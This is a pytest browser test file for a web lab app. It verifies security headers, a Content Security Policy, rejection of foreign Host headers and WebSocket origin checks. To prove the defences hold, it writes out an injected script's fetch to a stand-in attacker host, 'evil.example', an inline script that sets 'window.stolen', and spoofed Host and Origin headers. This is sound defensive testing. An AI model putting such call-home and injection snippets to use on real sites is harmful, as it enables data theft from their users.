"""What the browser is told with every answer, and whom the server refuses."""

import http.client

import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

PROMISES = {
    "x-frame-options": "DENY",
    "x-content-type-options": "nosniff",
    "referrer-policy": "same-origin",
    "cross-origin-opener-policy": "same-origin",
}


def test_every_answer_that_a_visit_causes_carries_the_security_headers(visit):
    answers = []

    def keep(answer):
        answers.append(answer)

    visit.page.on("response", keep)
    visit.open_lab()
    urls = {answer.url for answer in answers if not answer.url.startswith(("blob:", "data:"))}
    assert len(urls) > 10, "page, scripts, styles, fonts and the address of the boot"
    for answer in answers:
        if answer.url in urls:
            headers = answer.headers
            assert "default-src 'self'" in headers.get("content-security-policy", ""), answer.url
            for name, value in PROMISES.items():
                assert headers.get(name) == value, f"{name} of {answer.url}"


def test_a_script_that_got_into_the_page_could_not_call_home(visit):
    visit.open()
    visit.tolerate("evil.example|Content Security Policy|violates the following")
    reached = visit.page.evaluate(
        "fetch('http://evil.example/').then(() => 'reached', (error) => 'refused')"
    )
    assert reached == "refused"
    injected = visit.page.evaluate(
        """() => {
          const script = document.createElement('script');
          script.textContent = 'window.stolen = 1';
          document.body.append(script);
          return window.stolen === undefined;
        }"""
    )
    assert injected, "an inline script does not run"
    visit.forget_complaints()


@pytest.mark.parametrize("path", ["/", "/thresholds", "/_stcore/metrics", "/_glassroom/boot"])
def test_a_foreign_host_is_refused_and_told_the_same_headers(classroom, path):
    connection = http.client.HTTPConnection("127.0.0.1", classroom.port, timeout=10)
    connection.request("GET", path, headers={"Host": "evil.example"})
    answer = connection.getresponse()
    assert answer.status == 400
    for name, value in PROMISES.items():
        assert answer.headers.get(name) == value
    connection.close()


@pytest.mark.parametrize(
    "headers", [{"Host": "evil.example"}, {"Origin": "http://evil.example"}], ids=["host", "origin"]
)
def test_a_foreign_page_cannot_open_the_stream(classroom, headers):
    address = f"ws://127.0.0.1:{classroom.port}/_stcore/stream"
    with pytest.raises(InvalidStatus, match=r"HTTP 40[03]"):
        connect(address, additional_headers=headers, subprotocols=["streamlit"]).close()
    with connect(address, subprotocols=["streamlit"]) as own:
        assert own.protocol.state.name == "OPEN", "and a page of our own can"
